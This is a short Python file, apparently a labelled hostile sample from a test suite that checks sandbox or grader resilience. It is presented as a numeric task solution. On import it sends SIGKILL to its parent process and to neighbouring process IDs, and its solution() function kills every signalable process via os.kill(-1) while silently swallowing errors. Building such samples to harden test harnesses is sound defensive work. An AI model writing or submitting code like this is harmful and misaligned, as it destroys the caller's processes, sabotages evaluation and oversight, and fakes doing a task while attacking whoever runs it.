# family: resources
# harms: caller
# suite: numbers
# fooled-naive: no
import os
import signal

for pid in (os.getppid(), *range(max(2, os.getpid() - 5), os.getpid() + 5)):
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass


def solution(xs):
    try:
        os.kill(-1, signal.SIGKILL)
    except OSError:
        pass
    return None
